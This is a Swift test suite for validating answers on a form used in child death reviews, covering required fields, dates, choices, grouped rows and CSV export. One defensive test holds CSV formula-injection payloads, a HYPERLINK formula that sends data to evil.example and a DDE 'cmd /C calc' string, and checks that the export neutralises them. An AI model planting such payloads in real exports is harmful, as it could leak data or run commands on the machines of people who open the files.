import CDOPDefinitions
import CDOPDomain
import Testing

/// A small form with every field type, built in code so the tests do not depend on the shipped wording.
enum SampleForm {
    static let today = CalendarDate("2026-11-20")

    static let definition = FormDefinition(
        id: "sample", version: 3, title: "Sample", summary: "", formType: nil,
        sections: [
            FormSection(
                id: "one", title: "One",
                fields: [
                    FormField(
                        id: "name", label: "Name", type: .text, required: true, maxLength: 10, errorName: "the name"),
                    FormField(id: "notes", label: "Notes", type: .longText),
                    FormField(
                        id: "date-of-death", label: "Date of death", type: .date, required: true, notAfterToday: true,
                        errorName: "the date of death"),
                    FormField(id: "found", label: "When found", type: .dateTime, notAfterToday: true),
                    FormField(id: "weight", label: "Weight", type: .number, minimum: 0.5, maximum: 200),
                    FormField(
                        id: "place", label: "Place", type: .choice, required: true,
                        options: [
                            FieldOption(value: "home", label: "Home"), FieldOption(value: "other", label: "Other"),
                        ]),
                    FormField(
                        id: "place-details", label: "Describe the place", type: .text, required: true,
                        condition: FieldCondition(field: "place", oneOf: ["other"])),
                ]),
            FormSection(
                id: "two", title: "Two",
                fields: [
                    FormField(
                        id: "events", label: "Events", type: .multipleChoice,
                        options: ["a", "b", "c"].map { FieldOption(value: $0, label: $0.uppercased()) }),
                    FormField(id: "supervised", label: "Supervised?", type: .yesNoNotKnown, required: true),
                    FormField(
                        id: "people", label: "People", type: .group, required: true,
                        fields: [
                            FormField(id: "role", label: "Role", type: .text, required: true),
                            FormField(id: "known", label: "Known?", type: .yesNoNotKnown),
                            FormField(
                                id: "since", label: "Known since", type: .date, required: true,
                                condition: FieldCondition(field: "known", oneOf: ["yes"])),
                        ]),
                ]),
        ])

    /// A complete, valid post.
    static var post: [String: [String]] {
        [
            "name": ["  Sam "], "date-of-death": ["2026-11-14"], "place": ["home"], "supervised": ["notKnown"],
            "people[0].role": ["GP"], "csrf": ["token"],
        ]
    }
}

@Suite("Validating answers against a form")
struct FormValidationTests {
    let form = SampleForm.definition
    let today = SampleForm.today

    func errors(_ post: [String: [String]], mode: ValidationMode = .submit) -> [FieldError] {
        form.validate(post: post, today: today, mode: mode).errors
    }

    @Test("A complete post gives typed answers: trimmed text, dates, choices, rows; unknown keys ignored")
    func validPost() throws {
        var post = SampleForm.post
        post["weight"] = ["3.5"]
        post["found"] = ["2026-11-14T02:10"]
        post["events"] = ["c", "a"]
        let answers = try #require(form.validate(post: post, today: today).answers)
        #expect(
            answers == [
                "name": .text("Sam"), "date-of-death": .date(CalendarDate("2026-11-14")), "place": .choice("home"),
                "supervised": .yesNo(.notKnown), "people": .groups([["role": .text("GP")]]), "weight": .number(3.5),
                "found": .text("2026-11-14T02:10"), "events": .multiple(["a", "c"]),
            ])
    }

    @Test("Missing required answers are named in page order, in GOV.UK words")
    func required() {
        let found = errors(["csrf": ["x"]])
        #expect(found.map(\.path) == ["name", "date-of-death", "place", "supervised", "people"])
        #expect(found[0] == FieldError(path: "name", label: "Name", message: "Enter the name"))
        #expect(found[1].message == "Enter the date of death")
        #expect(found[2].message == "Select place")
        #expect(found[4].message == "Add at least one entry to people")
    }

    @Test("Dates: ISO or GOV.UK day, month and year inputs; parts missing, unreal days and future days refused")
    func dates() {
        var post = SampleForm.post
        post["date-of-death"] = nil
        post["date-of-death-day"] = ["14"]
        post["date-of-death-month"] = ["11"]
        post["date-of-death-year"] = ["2026"]
        #expect(form.validate(post: post, today: today).answers?["date-of-death"] == .date(CalendarDate("2026-11-14")))
        post["date-of-death-month"] = [""]
        #expect(errors(post).map(\.message) == ["Date of death must include a month"])
        post["date-of-death-year"] = nil
        #expect(errors(post).map(\.message) == ["Date of death must include a month and year"])
        post["date-of-death-month"] = ["2"]
        post["date-of-death-day"] = ["30"]
        post["date-of-death-year"] = ["2026"]
        #expect(errors(post).map(\.message) == ["Date of death must be a real date"])
        post["date-of-death-day"] = ["21"]
        post["date-of-death-month"] = ["11"]
        #expect(errors(post).map(\.message) == ["Date of death must be today or in the past"])
        var iso = SampleForm.post
        iso["date-of-death"] = ["14/11/2026"]
        #expect(
            errors(iso) == [
                FieldError(path: "date-of-death", label: "Date of death", message: "Date of death must be a real date")
            ])
        iso["date-of-death"] = ["2026-11-20"]
        #expect(errors(iso).isEmpty)
    }

    @Test("Date-times, numbers and text lengths are checked")
    func typedValues() {
        var post = SampleForm.post
        post["found"] = ["2026-11-14 02:10"]
        post["weight"] = ["heavy"]
        post["name"] = ["Samantha Jones"]
        #expect(
            errors(post).map(\.message) == [
                "Name must be 10 characters or fewer",
                "When found must be a real date and time, for example 2026-11-14T02:10",
                "Weight must be a number",
            ])
        post["name"] = ["Sam"]
        post["found"] = ["2026-11-21T00:05"]
        post["weight"] = ["0.2"]
        #expect(
            errors(post).map(\.message) == ["When found must be today or in the past", "Weight must be 0.5 or more"])
        post["found"] = nil
        post["weight"] = ["1,200"]
        #expect(errors(post).map(\.message) == ["Weight must be 200 or less"])
    }

    @Test("Choices, several choices and yes / no / not known take only their options")
    func choices() {
        var post = SampleForm.post
        post["place"] = ["garden"]
        post["events"] = ["a", "z"]
        post["supervised"] = ["maybe"]
        #expect(errors(post).map(\.path) == ["place", "events", "supervised"])
        #expect(errors(post).allSatisfy { $0.message == "Choose one of the options listed" })
    }

    @Test("A hidden field is dropped and never required; once shown it is")
    func conditions() {
        var post = SampleForm.post
        post["place-details"] = ["a shed"]
        #expect(form.validate(post: post, today: today).answers?["place-details"] == nil)
        post["place"] = ["other"]
        #expect(form.validate(post: post, today: today).answers?["place-details"] == .text("a shed"))
        post["place-details"] = nil
        #expect(errors(post).map(\.path) == ["place-details"])
        #expect(FieldCondition(field: "events", oneOf: ["b"]).isSatisfied(by: ["events": .multiple(["a", "b"])]))
        #expect(!FieldCondition(field: "events", oneOf: ["b"]).isSatisfied(by: [:]))
    }

    @Test("Group rows: named GROUP[INDEX].FIELD, blank rows ignored, errors at the row's path, conditions within a row")
    func groups() throws {
        var post = SampleForm.post
        post["people[2].role"] = ["Health visitor"]
        post["people[2].known"] = ["yes"]
        post["people[2].since"] = ["2025-01-03"]
        post["people[1].role"] = [""]
        post["people[1].known"] = [""]
        let answers = try #require(form.validate(post: post, today: today).answers)
        #expect(
            answers["people"]
                == .groups([
                    ["role": .text("GP")],
                    [
                        "role": .text("Health visitor"), "known": .yesNo(.yes),
                        "since": .date(CalendarDate("2025-01-03")),
                    ],
                ]))
        post["people[2].since"] = nil
        post["people[3].known"] = ["no"]
        #expect(
            errors(post) == [
                FieldError(path: "people[2].since", label: "Known since", message: "Enter known since"),
                FieldError(path: "people[3].role", label: "Role", message: "Enter role"),
            ])
    }

    @Test("A draft checks the types of what is given but requires nothing")
    func drafts() {
        #expect(form.validate(post: ["name": ["Sam"]], today: today, mode: .draft) == .valid(["name": .text("Sam")]))
        #expect(errors(["weight": ["x"], "people[0].known": ["no"]], mode: .draft).map(\.path) == ["weight"])
    }

    @Test("An invalid post is echoed back as sent, to fill the form again")
    func echo() {
        let post = ["name": ["Sam"], "weight": ["x"]]
        guard case .invalid(_, let echoed) = form.validate(post: post, today: today) else {
            Issue.record("accepted")
            return
        }
        #expect(echoed == post)
    }

    @Test("JSON answers: each of its field's kind; unknown keys and wrong kinds are errors; hidden answers dropped")
    func jsonAnswers() throws {
        let valid: FormAnswers = [
            "name": .text("Sam"), "date-of-death": .date(CalendarDate("2026-11-14")), "place": .choice("home"),
            "place-details": .text("hidden"), "supervised": .yesNo(.no),
            "people": .groups([
                ["role": .text("GP"), "known": .yesNo(.yes), "since": .date(CalendarDate("2024-02-29"))]
            ]),
        ]
        var expected = valid
        expected["place-details"] = nil
        #expect(form.validate(answers: valid, today: today) == .valid(expected))

        var wrong = valid
        wrong["name"] = .number(3)
        wrong["nickname"] = .text("x")
        wrong["people"] = .groups([["role": .text("GP"), "age": .number(40)]])
        wrong["found"] = .text("yesterday")
        let found = form.validate(answers: wrong, today: today).errors
        #expect(found.map(\.path) == ["name", "found", "people[0].age", "nickname"])
        #expect(found[0].message.contains(#"{"text": "#))
        #expect(found[3].message == "This form has no question 'nickname'")
    }

    @Test("Answers written back as a post validate to the same answers")
    func postRoundTrip() throws {
        let answers: FormAnswers = [
            "name": .text("Sam"), "notes": .text("Line one\nLine two"),
            "date-of-death": .date(CalendarDate("2026-11-14")),
            "found": .text("2026-11-14T02:10"), "weight": .number(12), "place": .choice("other"),
            "place-details": .text("Shed"), "events": .multiple(["a", "c"]), "supervised": .yesNo(.yes),
            "people": .groups([["role": .text("GP")], ["role": .text("Nurse"), "known": .yesNo(.no)]]),
        ]
        let post = form.post(from: answers)
        #expect(post["date-of-death-day"] == ["14"])
        #expect(post["people[1].known"] == ["no"])
        #expect(form.validate(post: post, today: today) == .valid(answers))
    }

    @Test("CSV: one column per field, group fields joined by '; ' keeping empty places; quoting per RFC 4180")
    func csv() {
        #expect(
            form.csvColumns == [
                "name", "notes", "date-of-death", "found", "weight", "place", "place-details", "events", "supervised",
                "people.role", "people.known", "people.since",
            ])
        let row = form.csvRow([
            "name": .text("Sam, Jo"), "weight": .number(3.5), "date-of-death": .date(CalendarDate("2026-11-14")),
            "events": .multiple(["a", "c"]), "supervised": .yesNo(.notKnown),
            "people": .groups([["role": .text("GP")], ["role": .text("Nurse"), "known": .yesNo(.no)]]),
        ])
        #expect(
            row == [
                .text("Sam, Jo"), .text(""), .text("2026-11-14"), .text(""), .number(3.5), .text(""), .text(""),
                .text("a; c"),
                .text("notKnown"), .text("GP; Nurse"), .text("; no"), .text("; "),
            ])
        #expect(
            FormDefinition.csvLine([.text("a"), .text("b, c"), .text("say \"hi\"")]) == "a,\"b, c\",\"say \"\"hi\"\"\"")
    }

    @Test(
        "CSV: an answer that would start a spreadsheet formula is written after a single quote; a number answer stays a number",
        arguments: [
            (
                "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
                "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click\"\")\""
            ),
            ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"), ("-2+3", "'-2+3"), ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
            ("\t=1+1", "'\t=1+1"), ("\r\n=1+1", "\"'\r\n=1+1\""), ("Shed, garden", "\"Shed, garden\""),
            ("O'Brien", "O'Brien"),
        ])
    func csvNeutralisesFormulas(typed: String, written: String) {
        let line = FormDefinition.csvLine(form.csvRow(["name": .text(typed), "weight": .number(-4)]))
        #expect(line.hasPrefix(written + ","), "\(line)")
        #expect(line.contains(",-4,"), "a number answer is written as a number, never prefixed: \(line)")
    }

    @Test(
        "The shipped notification form refuses a date of death in the future and shows the NHS number only when known")
    func shippedNotification() throws {
        let form = try Shipped.load().forms.notification
        let result = form.validate(
            post: [
                "date-of-death": ["2026-11-21"], "child-nhs-number-status": ["notCurrentlyAvailable"],
                "child-nhs-number": ["123"],
            ], today: today)
        #expect(
            result.errors.contains(
                FieldError(
                    path: "date-of-death", label: "Date of death", message: "Date of death must be today or in the past"
                )))
        #expect(result.errors.contains { $0.path == "child-surname" && $0.message == "Enter the child's last name" })
        #expect(!result.errors.contains { $0.path == "child-nhs-number" })
    }
}
